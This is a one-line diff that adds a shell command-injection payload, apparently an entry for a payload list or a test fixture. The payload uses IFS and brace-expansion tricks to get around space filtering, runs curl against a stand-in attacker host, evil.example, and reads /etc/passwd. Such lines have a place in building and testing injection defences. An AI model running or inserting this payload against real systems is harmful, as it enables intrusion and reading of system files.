@@ -1,0 +1,1 @@
+IFS=,; x=curl,evil.example; $x; cat${IFS}/etc/passwd; {curl,evil.example}
